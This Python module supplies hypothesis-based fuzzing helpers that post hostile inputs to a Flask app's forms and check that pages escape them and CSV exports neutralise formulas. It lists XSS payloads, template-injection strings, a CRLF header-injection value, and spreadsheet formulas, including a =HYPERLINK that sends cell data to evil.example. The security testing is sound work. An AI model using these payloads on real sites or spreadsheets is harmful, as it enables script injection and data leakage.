"""Property-based fuzzing of every state-changing form and upload (hypothesis).

Each test signs in with a role that may use a form and posts arbitrary and adversarial values
to it: markup, template syntax, spreadsheet formulas, NUL bytes, lone surrogates, bytes that
are not UTF-8, right-to-left overrides, very long strings, and values that look valid
(emails, dates, numbers) so that some examples get past validation and are stored. Every
response must be below 500: a clear 4xx, a redirect, or the form shown again with its
messages. Wherever a value was stored, the pages that show it must carry it escaped, never
as markup, and CSV exports must neutralise it as a spreadsheet formula.

The examples per test are kept small so the package runs in well under a minute on two
cores; set FUZZ_EXAMPLES (a multiplier, default 1) for a longer local run, e.g.
`FUZZ_EXAMPLES=20 pytest tests/web/fuzz`.
"""

from __future__ import annotations

import csv
import io
import os
import re
from collections.abc import Callable, Mapping, Sequence
from datetime import date, timedelta
from typing import Any
from urllib.parse import urlencode

from flask.testing import FlaskClient
from hypothesis import HealthCheck, currently_in_test_context, event, example, settings
from hypothesis import strategies as st
from markdown_it.common.utils import escapeHtml
from markupsafe import escape
from werkzeug.test import TestResponse

from tests.conftest import CSRF_RE

SCALE = max(1, int(os.environ.get("FUZZ_EXAMPLES", "1")))


def fuzz(examples: int) -> settings:
    """Hypothesis settings for a fuzz test: the app fixture is shared by its examples."""
    return settings(
        max_examples=examples * SCALE,
        suppress_health_check=[
            HealthCheck.function_scoped_fixture,
            HealthCheck.too_slow,
            HealthCheck.data_too_large,
        ],
    )


# Markup that must never reach a page unescaped. Each is distinctive enough that finding
# it verbatim in a page can only mean a stored value was rendered as HTML.
MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</textarea><script>alert(2)</script>",
    "<a href=javascript:alert(3)>x</a>",
)
TEMPLATE = ("{{7*7}}", "{% if 1 %}x{% endif %}", "${7*7}", "{{ config }}", "#{7*7}")
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
)
# What every text field of every form gets for certain (see `probes`): each kind of hostile
# or awkward input once, as compactly as possible, since each costs a request or more.
PROBES = (
    MARKUP[0],
    MARKUP[1],
    "{{7*7}}{% if 1 %}x{% endif %}${7*7}",
    FORMULAS[0],
    FORMULAS[2],
    "\t=1+1",
    "a\x00b",
    "x\udc80y\ud800",  # lone surrogates: a browser never sends them, a script can
    "\u202etxt.exe",  # right-to-left override
    "Zoë O’Brien-Ćwik 😀 \u200b\ufeff İß",
    "line\r\nSet-Cookie: x=y\u2028",
    "",
    " ",
    "B" * 1001,
    MARKUP[0] * 3000,  # very long markup (75 KB)
)
# Sent as raw bytes: not UTF-8 at all.
RAW_BYTES = (b"caf\xe9 \xff\xfe", b"\xed\xa0\x80\xc3\x28")


# Dates at the edges of what Python and the databases can hold, and impossible ones.
DATE_PROBES = ("0001-01-01", "9999-12-31", "9999-12-20", "2026-02-30", "31/12/2025", "+20250-01-01")


def probes(*names: str, values: Sequence[Any] = (), **fixed: Any) -> Callable[[Any], Any]:
    """Explicit examples, run before the generated ones: every probe in the named fields.

    Random generation alone rarely hits a particular probe, so each form gets every one of
    them for certain; `fixed` gives the other arguments (valid values, to get past validation).
    `values` replaces the probes (e.g. DATE_PROBES for a date field).
    """

    def apply(test: Any) -> Any:
        for probe in values or PROBES + RAW_BYTES:
            test = example(**dict.fromkeys(names, probe), **fixed)(test)
        return test

    return apply


# NUL is left to the probes: the app refuses a request with one whole (400), so generated
# text with NULs would never get as far as validation.
_texts = st.text(st.characters(exclude_characters="\x00"), max_size=40)
# Lone surrogates too: a browser never sends them, a script can.
_any_chars = st.text(
    st.characters(codec=None, exclude_categories=(), exclude_characters="\x00"), max_size=40
)
_bytes = st.binary(max_size=30).map(lambda data: data.replace(b"\x00", b""))


def _join(parts: Sequence[str]) -> str:
    return "".join(parts)


def text_values() -> st.SearchStrategy[Any]:
    """Anything a text field could receive: probes, garbage, and probes inside garbage."""
    return st.one_of(
        st.sampled_from([p for p in PROBES if "\x00" not in p]),
        _texts,
        _any_chars,
        st.tuples(_texts, st.sampled_from(MARKUP + TEMPLATE + FORMULAS), _texts).map(_join),
        st.sampled_from(RAW_BYTES),
        _bytes,
    )


def stored_text() -> st.SearchStrategy[str]:
    """Text likely to pass validation and be stored: a probe, with ordinary text around it."""
    plain = st.text(st.characters(codec="utf-8", exclude_categories=("Cc", "Cs")), max_size=20)
    return st.tuples(plain, st.sampled_from(MARKUP + TEMPLATE + FORMULAS), plain).map(
        lambda p: f"Note {p[0]}{p[1]}{p[2]}"
    )


def email_values() -> st.SearchStrategy[Any]:
    """Valid-looking emails (some with markup or formulas in the local part) and garbage."""
    local = st.from_regex(r"[a-z][a-z0-9._+-]{0,20}", fullmatch=True)
    return st.one_of(
        st.emails(),
        local.map(lambda name: f"{name}@fuzz.example"),
        st.sampled_from(
            [
                "<script>alert(1)</script>@fuzz.example",
                '"<img src=x onerror=alert(1)>"@fuzz.example',
                "=HYPERLINK(1)@fuzz.example",
                "+1@fuzz.example",
                "a\x00b@fuzz.example",
                "é@fuzz.example",
                "user@xn--80ak6aa92e.com",
                "user@[127.0.0.1]",
                "a" * 250 + "@fuzz.example",
            ]
        ),
        text_values(),
    )


def date_values() -> st.SearchStrategy[Any]:
    """Dates in every form: any real date, dates near today, impossible dates, garbage."""
    today = date.today()
    near = st.integers(-800, 800).map(lambda days: (today + timedelta(days=days)).isoformat())
    return st.one_of(
        st.dates().map(date.isoformat),
        near,
        near,
        st.sampled_from(
            [
                "0001-01-01",
                "9999-12-31",
                "9999-12-30",
                "2026-02-30",
                "2026-13-01",
                "0000-00-00",
                "31/12/2025",
                "2025-1-1",
                " 2025-09-01 ",
                "2025-09-01T00:00",
                "+20250-01-01",
            ]
        ),
        text_values(),
    )


def int_values() -> st.SearchStrategy[Any]:
    """Numbers as a form sends them: small, huge, negative, decimal, or not numbers."""
    return st.one_of(
        st.integers(-5, 200).map(str),
        st.integers().map(str),
        st.sampled_from(["", "1e3", "0x10", "1.5", "٣", "99999999999999999999999", "-0"]),
        text_values(),
    )


def choice_values(valid: Sequence[str]) -> st.SearchStrategy[Any]:
    """A choice: usually a valid one, sometimes anything at all."""
    if not valid:
        return text_values()
    good = st.sampled_from(list(valid))
    return st.one_of(good, good, good, text_values())


def choice_lists(valid: Sequence[str]) -> st.SearchStrategy[list[Any]]:
    """Ticked boxes: a few valid or invalid values, possibly none or repeated."""
    return st.lists(choice_values(valid), max_size=4)


def _as_bytes(value: Any) -> bytes:
    if isinstance(value, bytes):
        return value
    # surrogatepass: a lone surrogate goes out as the (invalid) bytes a script would send.
    return str(value).encode("utf-8", "surrogatepass")


def encode_form(fields: Mapping[str, Any]) -> bytes:
    """URL-encode a form whose values may be text (even lone surrogates), bytes or lists."""
    pairs = []
    for name, value in fields.items():
        for item in value if isinstance(value, list | tuple) else [value]:
            if item is not None:
                pairs.append((name, _as_bytes(item)))
    return urlencode(pairs).encode("ascii")


def token(client: FlaskClient, url: str) -> str:
    """The CSRF token of a page's first form (valid for the whole session)."""
    response = client.get(url)
    match = CSRF_RE.search(response.get_data(as_text=True))
    assert match, f"no CSRF token on {url} (status {response.status_code})"
    return match.group(1)


def post(
    client: FlaskClient, url: str, fields: Mapping[str, Any], csrf: str | None = None
) -> TestResponse:
    """POST a urlencoded form built by `encode_form` (with a CSRF token when given)."""
    body = dict(fields)
    if csrf is not None:
        body["csrf_token"] = csrf
    return client.post(
        url, data=encode_form(body), content_type="application/x-www-form-urlencoded"
    )


ERROR_MARK = re.compile(r'role="alert"|class="error-message"|class="error-summary"')


def check(response: TestResponse, allowed: set[int], *, form_again: bool = True) -> str:
    """A response to a fuzzed post: 400 or an allowed status, and no raw markup.

    `form_again`: a 200 must show the form again with a message saying what is wrong.
    """
    status = response.status_code
    body = response.get_data(as_text=True)
    assert status < 500, f"server error {status}"
    # 400 is always allowed: a malformed request (e.g. a NUL character) is refused whole.
    assert status in allowed | {400}, f"unexpected status {status}: {body[:600]}"
    if currently_in_test_context():
        event(f"status {status}")  # see --hypothesis-show-statistics: how many got through
    assert_no_raw_markup(body)
    if status == 200 and form_again:
        assert ERROR_MARK.search(body), f"a form shown again without a message: {body[:600]}"
    return body


def assert_no_raw_markup(body: str) -> None:
    """None of the markup probes appears unescaped."""
    for probe in MARKUP:
        assert probe not in body, f"unescaped markup in the page: {probe!r}"


def assert_shown_escaped(body: str, value: str) -> None:
    """A stored value appears in the page escaped (as Jinja, or the Markdown renderer that
    fills a school's protocol into content, escapes it), never raw."""
    assert_no_raw_markup(body)
    escaped = (str(escape(value)), escapeHtml(value))
    assert any(e in body for e in escaped), f"stored value not shown (escaped): {value[:200]!r}"


def assert_csv_safe(text: str) -> list[list[str]]:
    """No cell of a CSV export could run as a spreadsheet formula; returns the rows."""
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"formula: {cell!r}"
    return rows
